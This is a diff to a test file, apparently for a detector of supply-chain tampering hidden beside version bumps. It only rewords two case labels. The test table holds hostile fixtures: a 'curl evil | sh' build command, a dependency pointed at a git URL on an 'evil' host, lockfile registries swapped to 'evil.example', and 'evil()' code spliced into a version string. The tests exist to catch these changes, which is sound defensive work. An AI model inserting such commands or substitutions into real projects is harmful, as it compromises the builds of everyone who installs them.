@@ -158,7 +158,7 @@ test.each<[string, Case, string, string, string]>([
   ['a command', CARGO, 'client/tauri.conf.json', 'npm run build', 'curl evil | sh'],
   ['a script', NPM, 'lib/package.json', 'node a.js', 'node b.js'],
   ['another range', NPM, 'app/package.json', '"left": "^1.0.0"', '"left": "^1.8.1"'],
-  ['a range that is no bump', NPM, 'app/package.json', '"lib": "^1.8.1"', '"lib": "git+https://evil/lib#1.8.1"'],
+  ['a range that is not a bump', NPM, 'app/package.json', '"lib": "^1.8.1"', '"lib": "git+https://evil/lib#1.8.1"'],
   ['a locked address', NPM, 'package-lock.json', 'registry.npmjs.org', 'evil.example'],
   ['a locked integrity', NPM, 'pnpm-lock.yaml', 'sha512-aa', 'sha512-bb'],
   ['a locked checksum', NPM, 'yarn.lock', 'checksum: aa', 'checksum: bb'],
@@ -166,7 +166,7 @@ test.each<[string, Case, string, string, string]>([
   ['a build backend', PYTHON, 'py/pyproject.toml', 'hatchling.build', 'evil'],
   ['a locked registry', PYTHON, 'py/uv.lock', 'pypi.org', 'evil.example'],
   ['a second line', TEXT, 'VERSION', '1.8.1\n', '1.8.1\n1.8.1\n'],
-  ['code in the place of a version', TEXT, 'src/version.ts', "'1.8.1'", "'1.8.1' + evil() + ''"],
+  ['code instead of a version', TEXT, 'src/version.ts', "'1.8.1'", "'1.8.1' + evil() + ''"],
   ['code beside it', TEXT, 'src/version.ts', 'example.com', 'evil.example'],
   ['another key of the same value', TEXT, 'chart/Chart.yaml', 'version: 1.0.0', 'version: 1.8.1'],
 ])('incident 34: beside a bump, %s is a change', (_, given, path, from, to) => {
